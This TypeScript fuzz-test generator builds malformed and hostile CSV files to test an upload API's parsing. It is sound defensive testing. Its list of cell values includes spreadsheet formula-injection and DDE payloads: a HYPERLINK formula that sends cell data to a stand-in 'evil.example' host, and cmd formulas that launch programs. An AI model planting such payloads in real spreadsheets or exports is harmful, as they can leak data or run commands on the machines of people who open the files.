import fc from 'fast-check';

/** A generated hostile CSV: what it is meant to test, and its bytes. */
export interface HostileFile {
  kind: string;
  name: string;
  content: Buffer;
  /** The API is expected to refuse it at upload (binary-looking head): it is sent on its own. */
  refusedAtUpload?: boolean;
  /** Heavy enough (MBs, tens of thousands of columns) to go in small batches. */
  heavy?: boolean;
  /** The file must be read, keeping at least this many valid rows (a bad row may be rejected, never the file). */
  keeps?: number;
}

/** The widest file that must work (issue 11: at least 20,000 columns). */
export const COLUMNS_THAT_MUST_WORK = 20_000;

/** The dataset the hostile files are read as: keeps every unmapped column, de-duplicates by email, records metrics. */
export const HOSTILE_DATASET = {
  label: 'Hostile contacts',
  keepUnmapped: true,
  fields: [
    { name: 'email', type: 'email', required: true },
    { name: 'name', type: 'string', required: false, case: 'title' },
    { name: 'amount', type: 'decimal', required: false },
    { name: 'joined', type: 'date', required: false },
  ],
  dedupe: { keys: [['email']], policy: 'most_complete' },
  metrics: {
    dateField: 'joined',
    dimensions: ['name'],
    metrics: [
      { name: 'rows', op: 'count' },
      { name: 'total', op: 'sum', field: 'amount' },
    ],
  },
};

const HEADER = 'email,name,amount,joined';
const MB = 1024 * 1024;
const text = (value: string) => Buffer.from(value, 'utf8');
const row = (i: number) => `user${i}@example.com,Person ${i},${(i * 7) % 100}.5,2026-01-${String((i % 28) + 1).padStart(2, '0')}`;
const rows = (count: number, from = 0) => Array.from({ length: count }, (_, i) => row(from + i));
/** Enough valid rows to push what follows past the API's 8 KiB content sniff. */
const PAST_SNIFF = rows(200).join('\n');

// Cell values an attacker would try: spreadsheet formulas and DDE payloads (plain numbers must stay as they are).
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=cmd|" /C calc"!A0',
  '\r=1',
  "=cmd|'/c notepad'!A1",
  '-4.5',
  '+12',
  '=-1',
  '@',
  '=',
  "'=already",
];
const LINE_ENDINGS = ['\n', '\r\n', '\r', '\n\r'];
const INVALID_UTF8 = [
  [0x63, 0x61, 0x66, 0xe9], // Latin-1 "café"
  [0xc0, 0xaf], // overlong "/"
  [0x80, 0x81], // continuation bytes with no lead
  [0xed, 0xa0, 0x80], // an encoded UTF-16 surrogate
  [0xf5, 0x80, 0x80, 0x80], // beyond U+10FFFF
  [0xff, 0xfe], // never valid in UTF-8
];

/** Cells of any Unicode, quoted as CSV requires: emoji, right-to-left marks, zero-width joiners, quotes, commas, newlines. */
const anyCell = fc.string({ unit: 'grapheme', maxLength: 40 }).map((value) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value));

const KINDS: { kind: string; count: number; file: fc.Arbitrary<Omit<HostileFile, 'kind' | 'name'> & { stem?: string }> }[] = [
  {
    kind: 'random-bytes',
    count: 15,
    file: fc.uint8Array({ minLength: 1, maxLength: 6000, min: 1, max: 255 }).map((bytes) => ({ content: Buffer.from(bytes) })),
  },
  {
    kind: 'random-bytes-with-nul',
    count: 8,
    file: fc.tuple(fc.uint8Array({ minLength: 1, maxLength: 3000 }), fc.nat(3000)).map(([bytes, at]) => {
      const content = Buffer.concat([Buffer.from(bytes), Buffer.from([0])]);
      return { content: Buffer.concat([content.subarray(0, at % content.length), Buffer.from([0]), content.subarray(at % content.length)]), refusedAtUpload: true };
    }),
  },
  {
    kind: 'nul-in-cells',
    count: 10,
    file: fc.tuple(fc.nat(3), fc.constantFrom('email', 'name', 'amount', 'extra')).map(([variant, where]) => {
      const cell = ['\u0000', 'a\u0000b', '\u0000\u0000\u0000', 'x'.repeat(20) + '\u0000'][variant];
      const bad =
        where === 'email'
          ? `${cell}@example.com,N,1,2026-01-01`
          : where === 'name'
            ? `nul@example.com,${cell},1,2026-01-01`
            : where === 'amount'
              ? `nul@example.com,N,${cell},2026-01-01`
              : `nul@example.com,N,1,2026-01-01,${cell}`;
      return { content: text(`${HEADER}${where === 'extra' ? ',extra' : ''}\n${PAST_SNIFF}\n${bad}\n${row(999)}\n`) };
    }),
  },
  {
    kind: 'nul-in-header',
    count: 3,
    // Past the 8 KiB sniff: a long header whose last names hold NUL.
    file: fc.integer({ min: 900, max: 1200 }).map((columns) => {
      const names = Array.from({ length: columns }, (_, i) => `col_${i}`);
      return { content: text(`${HEADER},${names.join(',')},bad\u0000name,\u0000\n${row(1)}${',x'.repeat(columns + 2)}\n`) };
    }),
  },
  {
    kind: 'unbalanced-quotes',
    count: 20,
    file: fc.tuple(fc.nat(5), fc.integer({ min: 1, max: 150 })).map(([variant, line]) => {
      const body = rows(150);
      body[line - 1] = [
        `"user${line}@example.com,Never closed,1,2026-01-01`,
        `user${line}@example.com,Mid"quote,1,2026-01-01`,
        `"user${line}@example.com"x,After close,1,2026-01-01`,
        `user${line}@example.com,"Closed"",1,2026-01-01`,
        `"""",""",""",""`,
        `user${line}@example.com,"ok",1,"2026-01-01`,
      ][variant];
      return { content: text(`${HEADER}\n${body.join('\n')}\n`) };
    }),
  },
  {
    kind: 'mixed-line-endings',
    count: 15,
    file: fc.array(fc.constantFrom(...LINE_ENDINGS), { minLength: 30, maxLength: 30 }).map((endings) => ({
      content: text([HEADER, ...rows(30)].map((line, i) => line + (endings[i] ?? '\n')).join('')),
    })),
  },
  {
    kind: '5mb-line',
    count: 6,
    file: fc.tuple(fc.integer({ min: 5, max: 6 }), fc.boolean(), fc.constantFrom('name', 'extra', 'amount')).map(([megabytes, quoted, where]) => {
      const value = quoted ? `"${'long, "" value\n'.repeat(Math.ceil((megabytes * MB) / 16))}"` : 'L'.repeat(megabytes * MB);
      const line =
        where === 'name' ? `long@example.com,${value},1,2026-01-02` : where === 'amount' ? `long@example.com,N,${value},2026-01-02` : `long@example.com,N,1,2026-01-02,${value}`;
      const pad = where === 'extra' ? ',' : '';
      return { content: text(`${HEADER}${where === 'extra' ? ',notes' : ''}\n${row(1)}${pad}\n${line}\n${row(2)}${pad}\n`), heavy: true, keeps: 2 };
    }),
  },
  {
    kind: '5mb-header',
    count: 2,
    file: fc.constantFrom(0, 1).map((variant) => {
      const columns = Array.from({ length: Math.ceil((5 * MB) / 8) }, (_, i) => (variant ? `h${i}` : `column_${i}`));
      return { content: text(`${HEADER},${columns.join(',')}\n${row(1)}\n`), heavy: true };
    }),
  },
  {
    kind: 'wide',
    count: 8,
    file: fc.tuple(fc.integer({ min: 10_000, max: 50_000 }), fc.integer({ min: 1, max: 12 })).map(([columns, count]) => {
      const extra = Array.from({ length: columns - 4 }, (_, i) => `kept_${i}`);
      const body = Array.from({ length: count }, (_, r) => `${row(r % 5)},${extra.map((_, c) => ((r + c) % 3 ? c % 97 : '')).join(',')}`);
      const keeps = columns <= COLUMNS_THAT_MUST_WORK ? count : undefined;
      return { stem: `wide-${columns}`, content: text(`${HEADER},${extra.join(',')}\n${body.join('\n')}\n`), heavy: true, keeps };
    }),
  },
  {
    kind: 'invalid-utf8',
    count: 15,
    file: fc.tuple(fc.constantFrom(...INVALID_UTF8), fc.constantFrom('header', 'early', 'late', 'end')).map(([bytes, where]) => {
      const bad = Buffer.from(bytes);
      if (where === 'header') return { content: Buffer.concat([text('email,na'), bad, text(`me,amount,joined\n${row(1)}\n`)]) };
      if (where === 'early') return { content: Buffer.concat([text(`${HEADER}\n${row(1)}\nbad@example.com,`), bad, text(`,1,2026-01-01\n`)]) };
      if (where === 'late') return { content: Buffer.concat([text(`${HEADER}\n${PAST_SNIFF}\nbad@example.com,`), bad, text(`,1,2026-01-01\n`)]) };
      return { content: Buffer.concat([text(`${HEADER}\n${row(1)}\n`), bad.subarray(0, 1)]) };
    }),
  },
  {
    kind: 'header-only',
    count: 10,
    file: fc.tuple(fc.constantFrom('', '\n', '\r\n', '\n\n\n'), fc.boolean()).map(([ending, bom]) => ({ content: text(`${bom ? '\uFEFF' : ''}${HEADER}${ending}`) })),
  },
  {
    kind: 'empty',
    count: 10,
    file: fc.constantFrom('', '\n', '\r\n\r\n', '   ', '\uFEFF', ',,,\n', '\t\n', '""\n', ',\n,\n').map((value) => ({ content: text(value) })),
  },
  {
    kind: 'huge-cells',
    count: 8,
    file: fc.tuple(fc.integer({ min: 1, max: 3 }), fc.constantFrom('name', 'notes', 'email')).map(([megabytes, where]) => {
      const cell = `"${'a, ""b""\nc '.repeat(Math.ceil((megabytes * MB) / 12))}"`;
      const line = where === 'name' ? `huge@example.com,${cell},1,2026-01-03` : where === 'email' ? `${cell},N,1,2026-01-03` : `huge@example.com,N,1,2026-01-03,${cell}`;
      const pad = where === 'notes' ? ',' : '';
      return { content: text(`${HEADER}${where === 'notes' ? ',notes' : ''}\n${row(1)}${pad}\n${line}\n${row(2)}${pad}\n`), heavy: true, keeps: 2 };
    }),
  },
  {
    kind: 'formula-injection',
    count: 20,
    file: fc.array(fc.constantFrom(...FORMULAS), { minLength: 4, maxLength: 4 }).map(([a, b, c, d]) => {
      const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
      return { content: text(`${HEADER},${cell(a)}\nf1@example.com,${cell(b)},${cell(c)},2026-01-04,${cell(d)}\nf2@example.com,${cell(a)},3,2026-01-05,${cell(c)}\n`) };
    }),
  },
  {
    kind: 'bom',
    count: 15,
    file: fc.constantFrom('utf8', 'double', 'mid', 'utf16le', 'utf16be').map((variant) => {
      const csv = `${HEADER}\n${rows(3).join('\n')}\n`;
      if (variant === 'utf8') return { content: text(`\uFEFF${csv}`) };
      if (variant === 'double') return { content: text(`\uFEFF\uFEFF${csv}`) };
      if (variant === 'mid') return { content: text(`${HEADER}\n${row(1)}\n\uFEFF${row(2)}\n`) };
      const le = Buffer.from(`\uFEFF${csv}`, 'utf16le');
      // UTF-16 text holds NUL bytes: the API refuses it as binary.
      return { content: variant === 'utf16le' ? le : Buffer.from(le).swap16(), refusedAtUpload: true };
    }),
  },
  {
    kind: 'messy-unicode',
    count: 30,
    file: fc.array(fc.tuple(fc.nat(50), anyCell, anyCell, anyCell), { minLength: 1, maxLength: 40 }).map((cells) => ({
      content: text(`${HEADER},notes\n${cells.map(([who, name, amount, notes]) => `u${who}@example.com,${name},${amount},2026-01-06,${notes}`).join('\n')}\n`),
    })),
  },
  {
    kind: 'ragged-columns',
    count: 15,
    file: fc
      .tuple(
        fc.constantFrom('email,name,amount,joined,EMAIL,Email', 'email,,,joined,', 'email,name,name,name', 'email', ',,,,'),
        fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 5, maxLength: 20 }),
      )
      .map(([header, widths]) => ({
        content: text(`${header}\n${widths.map((width, i) => [`r${i}@example.com`, ...Array.from({ length: width }, (_, c) => `v${c}`)].join(',')).join('\n')}\n`),
      })),
  },
];

/** Every hostile file, the same ones for the same seed. */
export function hostileFiles(seed: number): HostileFile[] {
  return KINDS.flatMap(({ kind, count, file }, k) =>
    fc.sample(file, { seed: seed + k, numRuns: count }).map(({ stem, ...generated }, i) => ({ kind, name: `${stem ?? kind}-${i}.csv`, ...generated })),
  );
}
